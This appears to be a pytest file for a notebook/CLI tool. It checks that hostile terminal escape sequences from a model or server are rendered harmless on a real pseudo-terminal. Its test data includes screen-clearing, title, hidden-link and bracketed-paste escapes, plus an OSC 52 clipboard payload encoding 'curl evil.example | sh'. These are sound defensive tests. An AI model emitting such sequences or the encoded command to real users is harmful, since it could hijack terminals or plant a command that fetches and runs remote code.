"""Escape sequences from a model or a server never run on the user's terminal.

The command line and terminal IPython's ``%%oxen`` run on a real pseudo-terminal (``os.openpty``)
against the loopback fake API; what reaches the terminal is read from the pty's master side. On a
terminal every control character but newline and tab is shown (``\\x1b``); piped output stays
exactly what the model sent.
"""

from __future__ import annotations

import os
import select
import subprocess
import sys
import time
from pathlib import Path

import pytest

from oxen_notebook._terminal import Printer, visible
from tests.conftest import TEST_KEY
from tests.fake_api import FakeAPI, Script

ROOT = Path(__file__).resolve().parents[1]

#: What a hostile reply, model name or error carries: each would act on a terminal.
SEQUENCES = {
    "clear screen": "\x1b[2J\x1b[H",
    "window title": "\x1b]0;owned\x07",
    "clipboard (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "hidden link (OSC 8)": "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\",
    "bracketed paste end": "\x1b[201~",
    "8-bit CSI and OSC": "\x9b2J\x9d0;owned\x9c",
    "bell and backspace": "\x07\x08",
}
HOSTILE = "before " + " ".join(SEQUENCES.values()) + " after"
RAW = [value.encode() for value in SEQUENCES.values()] + [b"\x1b", b"\x07", b"\xc2\x9b", b"\xc2\x9d"]


#: What terminal IPython (prompt_toolkit) writes itself: cursor shown, autowrap on, colours reset.
IPYTHON_OWN = (b"\x1b[?12l", b"\x1b[?25h", b"\x1b[?7h", b"\x1b[0m")


def shown_raw(seen: bytes, allowed: tuple[bytes, ...] = ()) -> list[str]:
    """The hostile sequences (or any ESC, BEL, C1 control) that reached the terminal as they are."""
    for ours in allowed:
        seen = seen.replace(ours, b"")
    return [repr(raw) for raw in RAW if raw in seen]


@pytest.fixture
def env(fake_api: FakeAPI, tmp_path: Path) -> dict[str, str]:
    (tmp_path / "oxen-config").mkdir()
    values = {name: value for name, value in os.environ.items() if not name.startswith("OXEN_")}
    values.update(
        OXEN_BASE_URL=fake_api.base_url, OXEN_API_KEY=TEST_KEY, OXEN_CONFIG_DIR=str(tmp_path / "oxen-config"),
        IPYTHONDIR=str(tmp_path / "ipython"), TERM="xterm-256color",
        PYTHONPATH=os.pathsep.join(filter(None, [str(ROOT), os.environ.get("PYTHONPATH")])),
    )  # fmt: skip
    return values


def on_terminal(
    command: list[str], env: dict[str, str], typed: list[tuple[bytes, bytes]] = (), timeout: float = 60
) -> bytes:
    """Run ``command`` with stdin, stdout and stderr on a new pseudo-terminal; what it wrote there.
    ``typed``: (what to wait for, counting from the previous step, what to type then)."""
    master, terminal = os.openpty()
    proc = subprocess.Popen(command, stdin=terminal, stdout=terminal, stderr=terminal, env=env)
    os.close(terminal)
    seen = b""
    steps = list(typed)
    mark = 0  # where the current step starts looking
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            if steps and steps[0][0] in seen[mark:]:
                wait_for, keys = steps.pop(0)
                mark = seen.index(wait_for, mark) + len(wait_for)
                os.write(master, keys)
            if select.select([master], [], [], 0.1)[0]:
                try:
                    chunk = os.read(master, 65536)
                except OSError:  # the terminal closed: the command ended
                    break
                if not chunk:
                    break
                seen += chunk
            elif proc.poll() is not None:
                break
        proc.wait(timeout=10)
    finally:
        if proc.poll() is None:
            proc.kill()
        os.close(master)
    return seen


def cli(*args: str) -> list[str]:
    return [sys.executable, "-m", "oxen_notebook", *args]


def test_visible_shows_every_control_but_newline_and_tab():
    assert visible("a\tb\nc\r\nd") == "a\tb\nc\nd"
    assert visible("\x1b]0;t\x07\x7f\x9b\x00\r") == "\\x1b]0;t\\x07\\x7f\\x9b\\x00\\x0d"
    assert visible("plain: é ∑ 🚀") == "plain: é ∑ 🚀"


def test_the_printer_holds_a_carriage_return_until_it_sees_what_follows():
    class Terminal:  # a stream that says it is a terminal, to check the pieces joined
        def __init__(self) -> None:
            self.text = ""

        def isatty(self) -> bool:
            return True

        def write(self, text: str) -> None:
            self.text += text

        def flush(self) -> None:
            pass

    out = Terminal()
    printer = Printer(out)
    for delta in ["one\r", "\ntwo\r", "three\x1b[2J"]:
        printer.write(delta)
    printer.end()
    assert out.text == "one\ntwo\\x0dthree\\x1b[2J\n" and printer.written == 19


@pytest.mark.slow
def test_ask_on_a_terminal_shows_the_sequences_and_a_pipe_gets_them_as_sent(fake_api, env):
    fake_api.handler = lambda body: Script(chunks=[HOSTILE[:20], HOSTILE[20:45], HOSTILE[45:]])
    seen = on_terminal(cli("ask", "hi"), env)
    assert shown_raw(seen) == []
    text = seen.decode().replace("\r\n", "\n")
    assert text == visible(HOSTILE) + "\n"
    piped = subprocess.run(cli("ask", "hi"), input=b"", capture_output=True, env=env, timeout=60)
    assert piped.stdout == HOSTILE.encode() + b"\n"  # piped: what the model sent, byte for byte


def test_chat_on_a_terminal_shows_the_sequences(fake_api, env):
    fake_api.handler = lambda body: Script(text=HOSTILE)
    seen = on_terminal(cli("chat"), env, typed=[(b"you> ", b"hello\n"), (b"you> ", b"\x04")])
    assert shown_raw(seen) == []
    assert visible(HOSTILE).encode() in seen


@pytest.mark.slow
def test_a_server_error_on_a_terminal_shows_the_sequences(fake_api, env):
    error = {
        "error": {"type": "unknown_error", "title": f"Boom {SEQUENCES['clear screen']}", "detail": HOSTILE}
    }
    fake_api.handler = lambda body: Script(status=400, error=error)
    seen = on_terminal(cli("ask", "hi"), env)
    assert shown_raw(seen) == []
    # Shown as text here, or already folded out of the server's text by the error itself.
    assert b"oxen-notebook: BadRequestError: 400 Boom " in seen


@pytest.mark.slow
def test_models_on_a_terminal_shows_the_sequences(fake_api, env):
    fake_api.models.append(f"evil{SEQUENCES['window title']}{SEQUENCES['clipboard (OSC 52)']}")
    seen = on_terminal(cli("models"), env)
    assert shown_raw(seen) == []
    assert b"evil\\x1b]0;owned\\x07\\x1b]52;c;" in seen


@pytest.mark.slow
def test_terminal_ipython_oxen_cell_and_commands_show_the_sequences(fake_api, env):
    fake_api.handler = lambda body: Script(text=HOSTILE)
    fake_api.models.append(f"evil{SEQUENCES['hidden link (OSC 8)']}")
    code = "\n".join(
        [
            "ip = get_ipython()",
            "ip.run_line_magic('load_ext', 'oxen_notebook')",
            "ip.run_cell_magic('oxen', '-m test-model', 'hello')",
            "ip.run_line_magic('oxen', 'models')",
        ]
    )
    command = [sys.executable, "-m", "IPython", "--no-banner", "--colors=NoColor", "--quick"]
    command += ["--TerminalInteractiveShell.term_title=False", "-c", code]
    seen = on_terminal(command, env)
    assert shown_raw(seen, allowed=IPYTHON_OWN) == []
    assert visible(HOSTILE).encode() in seen.replace(b"\r\n", b"\n")  # the reply
    assert b"evil\\x1b]8;;https://evil.example/" in seen  # the model table


@pytest.mark.slow
def test_terminal_ipython_cell_error_shows_the_sequences(fake_api, env):
    error = {"error": {"type": "unknown_error", "title": f"Boom {SEQUENCES['bracketed paste end']}"}}
    fake_api.handler = lambda body: Script(status=400, error=error)
    code = "ip = get_ipython(); ip.run_line_magic('load_ext', 'oxen_notebook'); ip.run_cell_magic('oxen', '', 'hi')"
    command = [sys.executable, "-m", "IPython", "--no-banner", "--colors=NoColor", "--quick"]
    command += ["--TerminalInteractiveShell.term_title=False", "-c", code]
    seen = on_terminal(command, env)
    # Only the error's own colour (ours) is an escape sequence; the server's title is shown.
    assert shown_raw(seen, allowed=(*IPYTHON_OWN, b"\x1b[31m")) == []
    assert b"BadRequestError\x1b[0m: 400 Boom " in seen
